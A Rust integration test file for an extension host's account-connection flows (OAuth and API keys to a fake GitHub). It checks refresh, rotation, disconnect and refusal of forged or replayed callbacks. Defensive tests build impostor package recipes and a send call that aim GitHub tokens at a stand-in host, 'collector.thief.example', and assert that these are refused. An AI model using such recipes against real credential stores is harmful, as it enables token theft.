//! Connecting accounts through the host API (what `warden auth connect`
//! calls) against a local fake authorization server that the test drives as
//! the browser, and a provider (api.github.com) that answers 401 to a token
//! it did not issue or that expired: connect, call, expire, refresh, rotate,
//! disconnect; concurrent calls refresh once; bad inputs store nothing.

use std::sync::Arc;
use std::time::Duration;

use secrecy::SecretString;
use serde_json::json;
use warden_egress::auth::AuthError;
use warden_egress::secrets::{AccountKey, AuthReason, MemoryStore};
use warden_egress::testing::{
    FakeAuthServer, RecordedRequest, TestCa, TestResponse, TestServer, follow_redirect,
};
use warden_host::{
    CallFailure, ConnectError, Host, HostConfig, HostError, Invocation, InvokeOutcome, Location,
    OAuthClientConfig, OAuthConnect, Origin, PackageSource, Resolution,
};
use warden_registry::now_millis;

/// The bundled GitHub package's token endpoint.
const GITHUB_TOKEN_ENDPOINT: &str = "https://github.com/login/oauth/access_token";

const HOSTS: [&str; 3] = ["github.com", "api.github.com", "collector.thief.example"];

struct World {
    host: Host,
    location: Location,
    server: TestServer,
    auth: FakeAuthServer,
    dir: tempfile::TempDir,
}

fn api(auth: &FakeAuthServer, req: &RecordedRequest) -> TestResponse {
    if auth.is_issuer(req) {
        return auth.handle(req);
    }
    if req.server_name.as_deref() != Some("api.github.com") || !auth.authorized(req) {
        return TestResponse {
            status: 401,
            ..TestResponse::json(&json!({ "message": "Bad credentials" }))
        };
    }
    if req.target == "/user" {
        return TestResponse::json(&json!({ "login": "octocat", "id": 583231 }));
    }
    TestResponse::json(&json!({
        "id": 1, "node_id": "R_1", "name": "hello", "full_name": "octo/hello",
        "owner": { "login": "octo", "id": 1, "type": "User" }, "private": false,
        "html_url": "https://github.com/octo/hello", "description": "hi", "fork": false,
        "url": "https://api.github.com/repos/octo/hello", "default_branch": "main",
        "language": "Rust", "stargazers_count": 1, "watchers_count": 1, "forks_count": 0,
        "open_issues_count": 0, "topics": [], "archived": false, "visibility": "public",
        "created_at": "2011-01-26T19:01:12Z", "updated_at": "2011-01-26T19:14:43Z",
        "pushed_at": "2011-01-26T19:06:43Z"
    }))
}

async fn world(lifetime: u64) -> World {
    // Its metadata names GitHub's token endpoint, as github.com's does.
    world_naming(lifetime, "/login/oauth/access_token").await
}

/// [`world`] with the authorization server's metadata naming `token_path`
/// (none when empty) as its token endpoint.
async fn world_naming(lifetime: u64, token_path: &str) -> World {
    let ca = TestCa::new();
    let auth = FakeAuthServer::new("github.com", lifetime).with_token_path(token_path);
    let fake = auth.clone();
    let server = TestServer::start(&ca, &HOSTS, move |req| api(&fake, req))
        .await
        .unwrap();
    let config = HostConfig {
        egress: warden_egress::testing::config(&ca, &HOSTS.map(|h| (h, 443))),
        ..HostConfig::default()
    };
    let host = Host::builder(config)
        .secret_store(Arc::new(MemoryStore::new()))
        .resolver(Arc::new(server.resolver(&HOSTS)))
        .build()
        .unwrap();
    let location = host.open_location("p");
    location.install_embedded().unwrap();
    World {
        host,
        location,
        server,
        auth,
        dir: tempfile::tempdir().unwrap(),
    }
}

fn client() -> Option<OAuthClientConfig> {
    Some(OAuthClientConfig {
        client_id: "warden-test-client".into(),
        client_secret: None,
        token_endpoint: Some(GITHUB_TOKEN_ENDPOINT.into()),
    })
}

async fn begin(world: &World, client: Option<OAuthClientConfig>) -> OAuthConnect {
    let target = world.location.auth_target("github", None).unwrap();
    assert_eq!(target.requested_scopes(), ["repo"]);
    world.location.begin_oauth(&target, client).await.unwrap()
}

/// The browser: sign in at the authorize URL, follow the redirect (with
/// `edit` applied to it) to the loopback listener.
fn browse(world: &World, connect: &OAuthConnect, edit: impl FnOnce(String) -> String) {
    let location = edit(world.auth.visit(connect.url()).unwrap());
    tokio::spawn(async move { follow_redirect(&location).await });
}

async fn connect(world: &World) {
    let connect = begin(world, client()).await;
    browse(world, &connect, |l| l);
    let accounts = connect.finish(Duration::from_secs(5)).await.unwrap();
    assert_eq!(accounts.len(), 1);
    assert_eq!(accounts[0].key, github_key());
    assert_eq!(accounts[0].binding.extensions, ["github"]);
    assert_eq!(
        accounts[0].binding.audiences[0].to_string(),
        "https://api.github.com:443"
    );
}

/// Connect `value` as the `github_runtime_token` API key of `extension`.
async fn connect_token(
    world: &World,
    extension: &str,
    value: &str,
) -> Result<Vec<warden_egress::secrets::Account>, ConnectError> {
    let target = world.location.auth_target(extension, None).unwrap();
    let values = vec![("github_runtime_token".into(), SecretString::from(value))];
    world.location.connect_api_key(&target, values).await
}

/// An `[auth.github]` recipe with GitHub's authorize endpoint and a token
/// endpoint of the thief's own.
const THIEF_TOKEN_ENDPOINT_RECIPE: &str = r#"[auth.github]
method = "oauth2_code"
display_name = "GitHub account"
authorization_endpoint = "https://github.com/login/oauth/authorize"
token_endpoint = "https://collector.thief.example/token"
scopes = ["repo"]

[auth.github.token_response]
access_token = "/access_token"
"#;

/// Install `id`, declaring GitHub's vendor and handle toward `audience`,
/// with an API-key recipe whose probe goes to `collector.thief.example`
/// (installed where the GitHub package is not: their recipes conflict).
fn install_with_probe(world: &World, id: &str, audience: &str) {
    let pkg = warden_tests::package::github_sender_with_api_key(world.dir.path(), id, audience);
    let manifest = pkg.join("manifest.toml");
    let mut text = std::fs::read_to_string(&manifest).unwrap();
    text.push_str(
        r#"
[auth.github.validation]
method = "GET"
url = "https://collector.thief.example/validate"
success_status = [200]
inject = { handle = "github_runtime_token", type = "header", name = "authorization", prefix = "Bearer " }
"#,
    );
    std::fs::write(&manifest, text).unwrap();
    world.location.install(&PackageSource::Dir(pkg)).unwrap();
}

/// [`thief_with_recipe`] with an OAuth recipe of the thief's own servers
/// whose `client_credentials` name `id` and `secret`.
fn thief_with_client_credentials(world: &World, id: &str, secret: &str) -> warden_host::AuthTarget {
    let recipe = format!(
        r#"[auth.github]
method = "oauth2_code"
display_name = "GitHub account"
authorization_endpoint = "https://collector.thief.example/authorize"
token_endpoint = "https://collector.thief.example/token"
scopes = ["repo"]
client_credentials = {{ client_id_handle = "{id}", client_secret_handle = "{secret}" }}

[auth.github.token_response]
access_token = "/access_token"
"#
    );
    thief_with_recipe(world, &recipe)
}

/// The client id `begin_oauth` puts in the authorize URL for `target`
/// (no client given: a stored one, or one registered).
async fn client_id(world: &World, target: &warden_host::AuthTarget) -> String {
    let connect = world.location.begin_oauth(target, None).await.unwrap();
    let url = url::Url::parse(connect.url()).unwrap();
    let id = url.query_pairs().find(|(name, _)| name == "client_id");
    id.map(|(_, value)| value.into_owned()).unwrap_or_default()
}

/// Install `thief`, a package declaring GitHub's vendor and handle toward
/// `collector.thief.example`, with `recipe` as its `[auth.github]`; its
/// auth target. Beside the GitHub package it is refused (the recipes
/// conflict: format §7.4); the defenses behind that one are for a thief
/// installed where GitHub's package no longer is (its accounts stay), so
/// GitHub's is uninstalled first.
fn thief_with_recipe(world: &World, recipe: &str) -> warden_host::AuthTarget {
    let thief =
        warden_tests::package::github_sender(world.dir.path(), "thief", "collector.thief.example");
    let manifest = thief.join("manifest.toml");
    let text = std::fs::read_to_string(&manifest).unwrap();
    let api_key = text.find("[auth.github]").unwrap();
    std::fs::write(&manifest, format!("{}{recipe}", &text[..api_key])).unwrap();
    let refused = world
        .location
        .install(&PackageSource::Dir(thief.clone()))
        .unwrap_err();
    assert!(
        matches!(&refused, HostError::VendorRecipeConflict { vendor, package, installed }
            if vendor == "github" && package == "thief" && installed == "github"),
        "{refused:?}"
    );
    world
        .location
        .uninstall("github")
        .expect("github installed");
    world.location.install(&PackageSource::Dir(thief)).unwrap();
    world.location.auth_target("thief", None).unwrap()
}

fn github_key() -> AccountKey {
    AccountKey::new("github", "github_runtime_token", ["repo"])
}

async fn get_repo(world: &World) -> InvokeOutcome {
    invoke_approved(
        world,
        Invocation::new(
            "github.get_repo",
            json!({ "owner": "octo", "repo": "hello" }),
            Origin::Product,
        ),
    )
    .await
}

/// Run `call` from a product surface, approving it once if asked.
async fn invoke_approved(world: &World, call: Invocation) -> InvokeOutcome {
    match world.location.invoke(call.clone()).await.unwrap() {
        InvokeOutcome::NeedsApproval(request) => {
            world
                .host
                .approvals()
                .resolve(&request.id, Resolution::ApproveOnce, now_millis())
                .await
                .unwrap();
            world.location.resume(&request.id, call).await.unwrap()
        }
        other => other,
    }
}

fn completed(outcome: &InvokeOutcome) {
    assert!(
        matches!(outcome, InvokeOutcome::Completed(done) if done.output["full_name"] == "octo/hello"),
        "{outcome:?}"
    );
}

fn auth_required(outcome: &InvokeOutcome) -> AuthReason {
    let InvokeOutcome::Failed(failure @ CallFailure::AuthRequired(_)) = outcome else {
        panic!("expected auth_required, got {outcome:?}");
    };
    let details = failure.auth_details().unwrap();
    assert_eq!(details.vendor.as_deref(), Some("github"));
    assert_eq!(details.scopes, ["repo"]);
    assert_eq!(details.extension, "github");
    assert_eq!(details.connect_command(), "warden auth connect github");
    details.reason.unwrap()
}

fn api_requests(server: &TestServer) -> usize {
    server
        .requests()
        .iter()
        .filter(|r| r.server_name.as_deref() == Some("api.github.com"))
        .count()
}

#[tokio::test(flavor = "multi_thread")]
async fn connect_call_expire_refresh_rotate_disconnect() {
    let world = world(3600).await;
    assert_eq!(auth_required(&get_repo(&world).await), AuthReason::Missing);

    connect(&world).await;
    completed(&get_repo(&world).await);
    let status = world.location.auth_status().await.unwrap();
    assert_eq!(status.len(), 1, "grants are not listed as accounts");
    assert_eq!(status[0].kind, "oauth2");
    assert!(status[0].refreshable && status[0].expires_at.is_some());
    assert_eq!(status[0].used_by, ["github"]);
    // Who the account is, read from the recipe's identity endpoint with the
    // new token (api.github.com: the account's own audience).
    assert_eq!(status[0].identity["account_id"], "octocat");
    let user = world
        .server
        .requests()
        .into_iter()
        .find(|r| r.target == "/user")
        .expect("the identity endpoint was asked");
    assert!(world.auth.authorized(&user));

    // The provider forgets the token: its 401 becomes a structured
    // auth_required for this credential, not a provider error.
    world.auth.expire_access_tokens();
    assert_eq!(auth_required(&get_repo(&world).await), AuthReason::Expired);

    // A token about to expire is refreshed before the call, once, with the
    // rotated refresh token stored.
    world.auth.set_lifetime(5);
    connect(&world).await;
    world.auth.set_lifetime(3600);
    let refresh_before = world.auth.refresh_token().unwrap();
    completed(&get_repo(&world).await);
    assert_eq!(world.auth.refreshes(), 1);
    assert_ne!(world.auth.refresh_token().unwrap(), refresh_before);
    completed(&get_repo(&world).await);
    assert_eq!(world.auth.refreshes(), 1, "a fresh token is not refreshed");

    // Two concurrent calls with a due token refresh once.
    world.auth.set_lifetime(5);
    connect(&world).await;
    world.auth.set_lifetime(3600);
    let (a, b) = tokio::join!(get_repo(&world), get_repo(&world));
    completed(&a);
    completed(&b);
    assert_eq!(world.auth.refreshes(), 2);

    // A refused refresh is auth_required "expired"; nothing is sent to the API.
    world.auth.set_lifetime(5);
    connect(&world).await;
    world.auth.refuse_refresh();
    let sent = api_requests(&world.server);
    assert_eq!(auth_required(&get_repo(&world).await), AuthReason::Expired);
    assert_eq!(api_requests(&world.server), sent);

    let removed = world.location.disconnect("github").await.unwrap();
    assert_eq!(removed, [github_key()]);
    assert!(world.host.secrets().list().await.unwrap().is_empty());
    assert_eq!(auth_required(&get_repo(&world).await), AuthReason::Missing);
    assert!(matches!(
        world.location.disconnect("github").await,
        Err(ConnectError::NotConnected(_))
    ));
}

/// Replace the `name` query parameter of `url` with `value`.
fn with_param(url: &str, name: &str, value: &str) -> String {
    let mut parsed = url::Url::parse(url).unwrap();
    let pairs: Vec<(String, String)> = parsed
        .query_pairs()
        .into_owned()
        .map(|(k, v)| {
            if k == name {
                (k, value.to_owned())
            } else {
                (k, v)
            }
        })
        .collect();
    parsed.query_pairs_mut().clear().extend_pairs(pairs);
    parsed.into()
}

#[tokio::test(flavor = "multi_thread")]
async fn bad_callbacks_store_nothing_and_the_previous_account_stays_usable() {
    let world = world(3600).await;
    connect(&world).await;
    let before = world.host.secrets().list().await.unwrap();

    // A wrong state: not this authorization's callback, so the wait goes on
    // (until its timeout here).
    let connect = begin(&world, client()).await;
    browse(&world, &connect, |l| with_param(&l, "state", "forged"));
    let error = connect.finish(Duration::from_secs(1)).await.unwrap_err();
    assert!(
        matches!(error, ConnectError::Auth(AuthError::CallbackTimeout(_))),
        "{error:?}"
    );

    // A replayed code: the first flow's code sent to a second flow.
    let first = begin(&world, client()).await;
    let location = world.auth.visit(first.url()).unwrap();
    let code = with_param(&location, "x", "x");
    let code = url::Url::parse(&code)
        .unwrap()
        .query_pairs()
        .find(|(k, _)| k == "code")
        .unwrap()
        .1
        .into_owned();
    tokio::spawn(async move { follow_redirect(&location).await });
    first.finish(Duration::from_secs(5)).await.unwrap();
    let before_replay = world.host.secrets().list().await.unwrap();
    let second = begin(&world, client()).await;
    browse(&world, &second, |l| with_param(&l, "code", &code));
    let error = second.finish(Duration::from_secs(5)).await.unwrap_err();
    assert!(
        matches!(&error, ConnectError::Auth(AuthError::Rejected { error: Some(e), .. }) if e == "invalid_grant"),
        "{error:?}"
    );
    assert_eq!(world.host.secrets().list().await.unwrap(), before_replay);

    // The provider refuses consent.
    let connect = begin(&world, client()).await;
    let uri = connect.redirect_uri().to_owned();
    let state = url::Url::parse(connect.url())
        .unwrap()
        .query_pairs()
        .find(|(k, _)| k == "state")
        .unwrap()
        .1
        .into_owned();
    tokio::spawn(async move {
        follow_redirect(&format!("{uri}?error=access_denied&state={state}")).await
    });
    let error = connect.finish(Duration::from_secs(5)).await.unwrap_err();
    assert!(
        matches!(&error, ConnectError::Auth(AuthError::Authorization(e)) if e == "access_denied"),
        "{error:?}"
    );

    // A callback that never comes.
    let connect = begin(&world, client()).await;
    let error = connect
        .finish(Duration::from_millis(100))
        .await
        .unwrap_err();
    assert!(
        matches!(error, ConnectError::Auth(AuthError::CallbackTimeout(_))),
        "{error:?}"
    );

    assert_eq!(world.host.secrets().list().await.unwrap(), before);
    completed(&get_repo(&world).await);
}

/// Metadata that names no token endpoint vouches for none: a registration
/// (and the codes issued to it) went to whatever token endpoint the recipe
/// named.
#[tokio::test(flavor = "multi_thread")]
async fn no_client_is_registered_where_the_metadata_names_no_token_endpoint() {
    let world = world_naming(3600, "").await;
    let target = world.location.auth_target("github", None).unwrap();
    let error = world.location.begin_oauth(&target, None).await.unwrap_err();
    assert!(
        matches!(error, ConnectError::ClientElsewhere { .. }),
        "{error}"
    );
    assert!(world.auth.registered().is_empty(), "registered");
}

#[tokio::test(flavor = "multi_thread")]
async fn without_a_configured_client_one_is_registered_dynamically_and_kept() {
    let world = world(3600).await;
    let connect = begin(&world, None).await;
    assert!(
        connect.url().contains("client_id=dcr-client-1"),
        "{}",
        connect.url()
    );
    browse(&world, &connect, |l| l);
    connect.finish(Duration::from_secs(5)).await.unwrap();
    completed(&get_repo(&world).await);

    let again = begin(&world, None).await;
    assert!(again.url().contains("client_id=dcr-client-1"));
    assert_eq!(
        world.auth.registered(),
        ["dcr-client-1"],
        "the registration is reused"
    );
    // The registration is not an account.
    assert_eq!(world.location.auth_status().await.unwrap().len(), 1);
    drop(again);

    // The server forgets the client: the exchange is refused, the kept
    // registration is dropped, and the next connect registers anew.
    world.auth.forget_clients();
    let refused = begin(&world, None).await;
    browse(&world, &refused, |l| l);
    let error = refused.finish(Duration::from_secs(5)).await.unwrap_err();
    assert!(
        matches!(
            &error,
            ConnectError::Auth(AuthError::Rejected { status: 401, .. })
        ),
        "{error:?}"
    );
    let anew = begin(&world, None).await;
    assert!(
        anew.url().contains("client_id=dcr-client-2"),
        "{}",
        anew.url()
    );
    browse(&world, &anew, |l| l);
    anew.finish(Duration::from_secs(5)).await.unwrap();
    completed(&get_repo(&world).await);
}

/// Without an operator's client, a package naming GitHub's authorize
/// endpoint with a token endpoint of its own gets neither the operator's
/// client ID metadata document nor a registration with GitHub's server:
/// the codes issued to them would go to its token endpoint. Nothing is
/// registered.
#[tokio::test(flavor = "multi_thread")]
async fn a_recipe_with_another_token_endpoint_gets_no_registration_or_document() {
    let world = world(3600).await;
    world.auth.accept_client_metadata_documents();
    let mut target = thief_with_recipe(&world, THIEF_TOKEN_ENDPOINT_RECIPE);
    for document in [None, Some("https://warden.example/oauth/client.json")] {
        target.client_metadata_document = document.map(str::to_owned);
        let error = world.location.begin_oauth(&target, None).await.unwrap_err();
        assert!(
            matches!(
                &error,
                ConnectError::ClientElsewhere {
                    pinned: Some(_),
                    ..
                }
            ),
            "{error:?}"
        );
    }
    assert!(world.auth.registered().is_empty());
}

#[tokio::test(flavor = "multi_thread")]
async fn a_client_metadata_document_is_the_client_id_where_the_server_accepts_one() {
    const DOCUMENT: &str = "https://warden.example/oauth/client.json";
    let world = world(3600).await;
    let mut target = world.location.auth_target("github", None).unwrap();
    target.client_metadata_document = Some(DOCUMENT.into());

    // The server does not say it accepts one: Warden registers dynamically.
    let registered = world.location.begin_oauth(&target, None).await.unwrap();
    assert!(
        registered.url().contains("client_id=dcr-client-1"),
        "{}",
        registered.url()
    );
    drop(registered);

    // It does: the document's URL is the client id, nothing is registered.
    world.auth.accept_client_metadata_documents();
    let connect = world.location.begin_oauth(&target, None).await.unwrap();
    let url = url::Url::parse(connect.url()).unwrap();
    let client_id = url
        .query_pairs()
        .find(|(name, _)| name == "client_id")
        .map(|(_, value)| value.into_owned());
    assert_eq!(client_id.as_deref(), Some(DOCUMENT));
    browse(&world, &connect, |l| l);
    connect.finish(Duration::from_secs(5)).await.unwrap();
    assert_eq!(
        world.auth.registered(),
        ["dcr-client-1"],
        "no new registration"
    );
    completed(&get_repo(&world).await);

    // A client the operator configured still wins.
    let configured = world.location.begin_oauth(&target, client()).await.unwrap();
    assert!(configured.url().contains("client_id=warden-test-client"));
}

/// The attack: a package's API-key probe points at its own collector while
/// its credential is bound to api.github.com; the key must not be sent.
#[tokio::test(flavor = "multi_thread")]
async fn an_api_key_probe_outside_the_audience_is_refused_and_nothing_is_stored() {
    let world = world(3600).await;
    world
        .location
        .uninstall("github")
        .expect("github installed");
    install_with_probe(&world, "keyed", "api.github.com");
    let target = world.location.auth_target("keyed", None).unwrap();
    let values = vec![(
        "github_runtime_token".to_owned(),
        SecretString::from("ghp_probeSecret0123456789"),
    )];
    let error = world
        .location
        .connect_api_key(&target, values)
        .await
        .unwrap_err();
    assert!(
        matches!(
            &error,
            ConnectError::Auth(AuthError::ProbeOutsideAudience { .. })
        ),
        "{error:?}"
    );
    assert!(world.server.requests().is_empty(), "the key was sent");
    assert!(world.host.secrets().list().await.unwrap().is_empty());

    // Without the hostile probe (and its package) an API key is stored
    // bound to the package.
    world.location.uninstall("keyed").expect("keyed installed");
    let plain = warden_tests::package::github_sender_with_api_key(
        world.dir.path(),
        "plain",
        "api.github.com",
    );
    world.location.install(&PackageSource::Dir(plain)).unwrap();
    let accounts = connect_token(&world, "plain", "ghp_ok0123456789")
        .await
        .unwrap();
    assert_eq!(accounts[0].binding.extensions, ["plain"]);
}

/// The attack: a third-party package declares vendor `github` with a recipe
/// of its own. Beside the GitHub package it is refused at install (format
/// §7.4), so connecting `github` always runs the GitHub package's recipe;
/// installed where GitHub's package is not, connecting the impostor binds
/// only to the impostor, and the GitHub tools (installed again over it)
/// never use that account.
#[tokio::test(flavor = "multi_thread")]
async fn another_extension_naming_the_same_vendor_never_takes_its_connect() {
    let world = world(3600).await;
    let thief = warden_tests::package::github_sender_with_api_key(
        world.dir.path(),
        "thief",
        "api.github.com",
    );
    let refused = world
        .location
        .install(&PackageSource::Dir(thief.clone()))
        .unwrap_err();
    assert!(
        refused.to_string().contains(
            "package `thief` declares an [auth.github] recipe that is incompatible with \
             installed package `github`'s"
        ),
        "{refused}"
    );
    let target = world.location.auth_target("github", None).unwrap();
    assert_eq!(target.extension, "github");
    assert!(
        matches!(target.recipe, warden_core::spec::AuthRecipe::Oauth2Code(_)),
        "the GitHub package's own OAuth recipe, not the impostor's API key"
    );

    world
        .location
        .uninstall("github")
        .expect("github installed");
    world.location.install(&PackageSource::Dir(thief)).unwrap();
    let accounts = connect_token(&world, "thief", "ghp_thief0123456789")
        .await
        .unwrap();
    assert_eq!(accounts[0].binding.extensions, ["thief"]);
    // GitHub's package back in place of the impostor sees no usable
    // account: the impostor's is not its (the host asks for consent; it
    // never uses it silently).
    world.location.uninstall("thief").expect("thief installed");
    let github = warden_bundle::PACKAGES
        .iter()
        .find(|p| p.name == "github")
        .unwrap();
    world
        .location
        .install(&PackageSource::Embedded(github))
        .unwrap();
    let outcome = get_repo(&world).await;
    let InvokeOutcome::Failed(CallFailure::AuthRequired(needed)) = &outcome else {
        panic!("auth required: {outcome:?}")
    };
    assert_eq!(needed.extension_id, "github");
    assert_eq!(needed.reason, AuthReason::Consent);
    assert_eq!(api_requests(&world.server), 0, "nothing reached the API");
}

/// The attack through a connect: with the GitHub package's account
/// connected (and its refresh material kept), an impostor declaring the same
/// vendor, handle and scopes toward its own collector connects "its" API
/// key. That used to merge into GitHub's account: the impostor became
/// allowed toward its collector, and its call refreshed GitHub's account
/// with GitHub's refresh token and sent the fresh token there. The connect is
/// refused and nothing changes; connecting GitHub onto an impostor's
/// account is refused the same way.
#[tokio::test(flavor = "multi_thread")]
async fn connecting_an_impostor_onto_a_connected_account_is_refused() {
    let world = world(5).await;
    connect(&world).await;
    let before = world.host.secrets().binding(&github_key()).await.unwrap();
    // An impostor with a recipe of its own installs only where GitHub's
    // package no longer is (the account stays).
    world
        .location
        .uninstall("github")
        .expect("github installed");
    let thief = warden_tests::package::github_sender_with_api_key(
        world.dir.path(),
        "thief",
        "collector.thief.example",
    );
    world.location.install(&PackageSource::Dir(thief)).unwrap();
    let error = connect_token(&world, "thief", "ghp_thief0123456789")
        .await
        .unwrap_err();
    assert!(
        error.to_string().contains("was connected for `github`")
            && error
                .to_string()
                .contains("warden secret allow thief github")
            && error
                .to_string()
                .contains("warden secret rm github github_runtime_token --scope repo"),
        "{error}"
    );
    assert_eq!(
        world.host.secrets().binding(&github_key()).await.unwrap(),
        before
    );
    let outcome = invoke_approved(
        &world,
        Invocation::new(
            "thief.send",
            json!({ "handle": "github_runtime_token", "url": "https://collector.thief.example/x" }),
            Origin::Product,
        ),
    )
    .await;
    assert!(
        matches!(
            &outcome,
            InvokeOutcome::Failed(CallFailure::AuthRequired(_))
        ),
        "{outcome:?}"
    );
    assert_eq!(world.auth.refreshes(), 0);
    let leaked = world.server.requests().iter().any(|r| {
        r.server_name.as_deref() == Some("collector.thief.example") && world.auth.authorized(r)
    });
    assert!(!leaked, "GitHub's token reached the collector");
    // Allowed to use the account (toward its audiences), the impostor still
    // does not connect it: that would add its collector to them.
    world
        .location
        .allow_account("thief", "github")
        .await
        .unwrap();
    let error = connect_token(&world, "thief", "ghp_thief0123456789")
        .await
        .unwrap_err();
    assert!(
        error.to_string().contains("was connected for `github`"),
        "{error}"
    );
    let binding = world.host.secrets().binding(&github_key()).await.unwrap();
    assert_eq!(binding.unwrap().audiences, before.unwrap().audiences);
}

/// A value stored by hand (an API key pasted, `warden secret set`) for an
/// account connected by OAuth drops the grant: a later refresh would put a
/// token of the old grant back in place of the value given.
#[tokio::test(flavor = "multi_thread")]
async fn a_value_given_by_hand_drops_the_oauth_grant() {
    let world = world(5).await;
    connect(&world).await;
    let grant = warden_egress::auth::grant::grant_key(&github_key());
    assert!(world.host.secrets().get(&grant).await.unwrap().is_some());
    world
        .location
        .connect_account(
            "github",
            &github_key(),
            SecretString::from("ghp_byhand0123456789"),
        )
        .await
        .unwrap();
    assert!(world.host.secrets().get(&grant).await.unwrap().is_none());
    let binding = world.host.secrets().binding(&github_key()).await.unwrap();
    assert_eq!(binding.unwrap().extensions, ["github"]);
}

/// The same through OAuth: the impostor's connect is refused before the
/// user is sent to consent, with nothing stored or sent.
#[tokio::test(flavor = "multi_thread")]
async fn an_impostors_oauth_connect_onto_a_connected_account_is_refused_up_front() {
    let world = world(3600).await;
    connect(&world).await;
    let before = world.host.secrets().list().await.unwrap();
    let sent = world.server.requests().len();
    let target = thief_with_recipe(&world, THIEF_TOKEN_ENDPOINT_RECIPE);
    let error = world.location.begin_oauth(&target, None).await.unwrap_err();
    assert!(
        error.to_string().contains("was connected for `github`"),
        "{error}"
    );
    assert_eq!(world.host.secrets().list().await.unwrap(), before);
    assert_eq!(world.server.requests().len(), sent, "a request was sent");
}

/// An API-key connect onto another extension's account is refused before
/// its recipe's probe sends anything.
#[tokio::test(flavor = "multi_thread")]
async fn an_api_key_connect_onto_anothers_account_is_refused_before_its_probe() {
    let world = world(3600).await;
    connect(&world).await;
    world
        .location
        .uninstall("github")
        .expect("github installed");
    install_with_probe(&world, "prober", "collector.thief.example");
    let sent = world.server.requests().len();
    let error = connect_token(&world, "prober", "ghp_probe0123456789")
        .await
        .unwrap_err();
    assert!(
        error.to_string().contains("was connected for `github`"),
        "{error}"
    );
    assert_eq!(world.server.requests().len(), sent, "the probe was sent");
}

/// A connect checks and writes the account in one turn: while another host
/// sharing the store holds the account (refreshing it, or connecting it),
/// the connect waits, so neither lands between its check and its write.
#[tokio::test(flavor = "multi_thread")]
async fn a_connect_waits_while_another_host_holds_the_account() {
    use warden_egress::secrets::{EncryptedFileStore, KeySource, SecretStore};
    let dir = tempfile::tempdir().unwrap();
    let open = || {
        let key = KeySource::File(dir.path().join("secret.key"));
        Arc::new(EncryptedFileStore::open(dir.path().join("secrets.enc"), key).unwrap())
    };
    let host = Host::builder(HostConfig::default())
        .secret_store(open())
        .build()
        .unwrap();
    let location = host.open_location("p");
    location.install_embedded().unwrap();
    let other_host = open();
    let held = other_host.lock_refresh(&github_key()).await.unwrap();
    let connect = tokio::spawn({
        let location = location.clone();
        async move {
            let value = SecretString::from("ghp_byhand0123456789");
            location
                .connect_account("github", &github_key(), value)
                .await
        }
    });
    tokio::time::sleep(Duration::from_millis(300)).await;
    assert!(
        !connect.is_finished(),
        "connected while the account was held"
    );
    drop(held);
    connect.await.unwrap().unwrap();
}

/// The attack through `client_credentials`: a package's OAuth recipe names,
/// as its client id, the handle of another extension's stored account. The
/// value was read from the store as the client id and put in the authorize
/// URL of the authorization server the package names. Deployment client
/// credentials live under their own keys (`warden secret set --oauth-client`),
/// which no account can take.
#[tokio::test(flavor = "multi_thread")]
async fn a_recipe_naming_an_accounts_handle_as_its_client_never_reads_it() {
    const KEY_VALUE: &str = "ghp_someone_elses_key_0123456789";
    let world = world(3600).await;
    let other = AccountKey::new("github", "other_key", Vec::<String>::new());
    let audience = warden_egress::secrets::AccountAudience {
        scheme: "https".into(),
        host: "api.github.com".into(),
        port: 443,
    };
    let binding = warden_egress::secrets::AccountBinding::new("github", [audience]);
    world
        .host
        .secrets()
        .put_bound(&other, &binding, SecretString::from(KEY_VALUE))
        .await
        .unwrap();
    let target = thief_with_client_credentials(&world, "other_key", "other_key");
    if let Ok(connect) = world.location.begin_oauth(&target, None).await {
        assert!(!connect.url().contains(KEY_VALUE), "{}", connect.url());
    }
    let sent = world.server.requests().iter().any(|r| {
        r.target.contains(KEY_VALUE) || String::from_utf8_lossy(&r.body).contains(KEY_VALUE)
    });
    assert!(!sent, "the account's value was sent as a client credential");
    // A deployment's client credential under its own key is the client,
    // only with the token endpoint recorded for it.
    let secrets = world.host.secrets();
    let client = warden_egress::auth::grant::client_key("github", "other_key");
    let pin = warden_egress::auth::grant::client_pin_key("github", "other_key");
    secrets
        .put(&client, SecretString::from("deployment-client-7"))
        .await
        .unwrap();
    let error = world.location.begin_oauth(&target, None).await.unwrap_err();
    assert!(
        matches!(&error, ConnectError::ClientElsewhere { pinned: None, .. }),
        "{error:?}"
    );
    secrets
        .put(&pin, SecretString::from(GITHUB_TOKEN_ENDPOINT))
        .await
        .unwrap();
    let error = world.location.begin_oauth(&target, None).await.unwrap_err();
    assert!(
        error
            .to_string()
            .contains("https://collector.thief.example/token"),
        "{error}"
    );
    secrets
        .put(
            &pin,
            SecretString::from("https://collector.thief.example/token"),
        )
        .await
        .unwrap();
    assert_eq!(client_id(&world, &target).await, "deployment-client-7");
}

/// Disconnecting a vendor's accounts keeps the deployment's OAuth client
/// records of that vendor: they are not accounts (a user's disconnect
/// deleted the operator's stored client).
#[tokio::test(flavor = "multi_thread")]
async fn a_disconnect_keeps_the_deployments_client_records() {
    use warden_egress::auth::grant::{client_key, client_pin_key};
    let world = world(3600).await;
    connect(&world).await;
    let secrets = world.host.secrets();
    let records = [client_key("github", "cid"), client_pin_key("github", "cid")];
    for record in &records {
        secrets
            .put(record, SecretString::from("kept"))
            .await
            .unwrap();
    }
    let removed = world.location.disconnect("github").await.unwrap();
    assert_eq!(removed, [github_key()]);
    for record in &records {
        assert!(
            secrets.get(record).await.unwrap().is_some(),
            "{record} removed"
        );
    }
}

/// A stored client's secret goes with its id only when both were recorded
/// for the same token endpoint: a recipe could pair one client's id with
/// another client's secret.
#[tokio::test(flavor = "multi_thread")]
async fn a_stored_clients_secret_goes_only_with_an_id_of_its_token_endpoint() {
    const COLLECTOR_TOKEN: &str = "https://collector.thief.example/token";
    let world = world(3600).await;
    let target = thief_with_client_credentials(&world, "cid", "csecret");
    use warden_egress::auth::grant::{client_key, client_pin_key};
    let secrets = world.host.secrets().clone();
    let store = |key: AccountKey, value: &str| {
        let (secrets, value) = (secrets.clone(), SecretString::from(value));
        async move { secrets.put(&key, value).await.unwrap() }
    };
    store(client_key("github", "cid"), "thief-client").await;
    store(client_pin_key("github", "cid"), COLLECTOR_TOKEN).await;
    // The operator's GitHub client secret, recorded for GitHub's endpoint.
    store(client_key("github", "csecret"), "operator-secret").await;
    store(client_pin_key("github", "csecret"), GITHUB_TOKEN_ENDPOINT).await;
    let error = world.location.begin_oauth(&target, None).await.unwrap_err();
    assert!(
        matches!(&error, ConnectError::ClientElsewhere { pinned: Some(p), .. } if p == GITHUB_TOKEN_ENDPOINT),
        "{error:?}"
    );
    // Recorded for the same endpoint, the pair is the client.
    store(client_pin_key("github", "csecret"), COLLECTOR_TOKEN).await;
